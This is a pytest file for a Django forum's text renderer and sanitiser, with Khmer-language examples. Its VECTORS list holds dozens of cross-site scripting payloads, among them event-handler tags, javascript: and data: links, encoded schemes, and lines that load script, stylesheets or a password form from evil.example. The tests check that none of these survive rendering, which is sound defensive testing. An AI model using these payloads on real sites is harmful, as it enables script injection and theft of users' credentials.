"""Nothing a person types becomes anything but text and the listed tags."""

import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given, settings
from hypothesis import strategies as st

from forums.forms import WritingField
from forums.models import Post, Topic
from forums.rendering import ATTRIBUTES, LONGEST, TAGS, VERSION, clean, has_letters, is_overloaded, to_html
from forums.services import refresh_html

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x style='position:fixed;inset:0'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/ \"t' onmouseover=alert(1) '\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x][y]\n\n[y]: https://evil.example/track.png",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://a.example/'onclick=alert(1)>",
    "https://a.example/'onclick='alert(1)",
    'https://a.example/"><script>alert(1)</script>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. <svg onload=alert(1)>",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "＜script＞alert(1)＜/script＞",
    "<a\u00a0href=javascript:alert(1)>x",
    "{{ 7*7 }}{% debug %}${7*7}",
]


class Reader(HTMLParser):
    """Collects what a browser would see; fails on anything that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag not in TAGS or {name for name, _ in attrs} - allowed:
            self.wrong.append(f"<{tag} {attrs}>")
        values = dict(attrs)
        if tag == "a":
            target = re.sub(r"[\x00-\x20]", "", values.get("href") or "").lower()
            if re.match(r"(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:", target):
                self.wrong.append(target)
            if values.get("rel") != "ugc nofollow noopener":
                self.wrong.append("a link without its mark")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")


def find_wrong(source: str) -> list[str]:
    reader = Reader()
    reader.feed(to_html(clean(source)))
    reader.close()
    return reader.wrong


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_runs(vector: str) -> None:
    assert find_wrong(vector) == []


PIECES = st.lists(
    st.sampled_from([*"<>\"'`=()[]!#*_&;:/\\ \n\t", "a", "script", "javascript", "https://", "onload", "ក"])
)


@settings(max_examples=150, deadline=None)
@given(PIECES.map("".join) | st.text(max_size=200))
def test_nothing_runs_whatever_is_typed(source: str) -> None:
    assert find_wrong(source) == []


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("មួយ\nពីរ", "<p>មួយ<br>\nពីរ</p>"),
        ("**ធំ** *ទ្រេត*", "<p><strong>ធំ</strong> <em>ទ្រេត</em></p>"),
        ("# ចំណងជើង", "<h3>ចំណងជើង</h3>"),
        ("- ក\n- ខ", "<ul>\n<li>ក</li>\n<li>ខ</li>\n</ul>"),
        ("3. ក", '<ol start="3">\n<li>ក</li>\n</ol>'),
        ("<b>x</b> & y", "<p>&lt;b&gt;x&lt;/b&gt; &amp; y</p>"),
        (
            "https://a.example/b?c=1។ ចប់",
            '<p><a href="https://a.example/b?c=1" rel="ugc nofollow noopener">https://a.example/b?c=1</a>។ ចប់</p>',
        ),
        (
            "[អាន](https://example.org)",
            '<p><a href="https://example.org" rel="ugc nofollow noopener">អាន</a></p>',
        ),
        ("`https://example.org`", "<p><code>https://example.org</code></p>"),
    ],
)
def test_plain_writing_reads_as_meant(source: str, html: str) -> None:
    assert to_html(source) == html


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("ក\r\nខ\rគ", "ក\nខ\nគ"),
        ("ក\n\n\n\n\n\nខ", "ក\n\n\nខ"),
        ("pay\u202egnp.exe", "paygnp.exe"),
        ("a\u2066b\u2069c\u200fd", "abcd"),
        ("ពាក្យ\u200bពាក្យ", "ពាក្យ\u200bពាក្យ"),
        ("ក\u200b\u200b\u200d\u2060ខ", "ក\u200bខ"),
        ("a\x00b\x1bc\ufeff", "abc\ufeff"),
        ("  x  ", "x"),
    ],
)
def test_cleaning(typed: str, kept: str) -> None:
    assert clean(typed) == kept


def test_khmer_is_never_overloaded() -> None:
    assert not is_overloaded("ស្ត្រី ញ្ញុំ៎ះ ខ្ញុំស្រឡាញ់ស្រុកខ្មែរ សន្តិភាព កម្ពុជា ម៉ោង៦ព្រឹក")
    assert is_overloaded("Z" + "\u0351" * 9)
    assert not is_overloaded("é" * 1000)


def test_only_invisible_characters_are_nothing() -> None:
    assert not has_letters("\u200b \u3164\n\u2060")
    assert has_letters("?")


@pytest.mark.parametrize(
    ("typed", "code"),
    [
        ("", "required"),
        ("\u200b\n \u200b", "required"),
        ("ក" * (LONGEST + 1), "max_length"),
        ("Z" + "\u0300" * 40, "overloaded"),
    ],
)
def test_what_cannot_be_posted_is_said_kindly(typed: str, code: str) -> None:
    with pytest.raises(ValidationError) as caught:
        WritingField().clean(typed)
    assert [error.code for error in caught.value.error_list] == [code]


def test_the_longest_text_passes() -> None:
    assert len(WritingField().clean("ក" * LONGEST)) == LONGEST


def test_an_older_rendering_is_renewed_once(question: Topic) -> None:
    Post.objects.update(html="<p>old</p>", renderer_version=0)
    refresh_html(list(question.posts.all()))
    post = Post.objects.get()
    assert (post.html, post.renderer_version) == (to_html(post.source), VERSION)
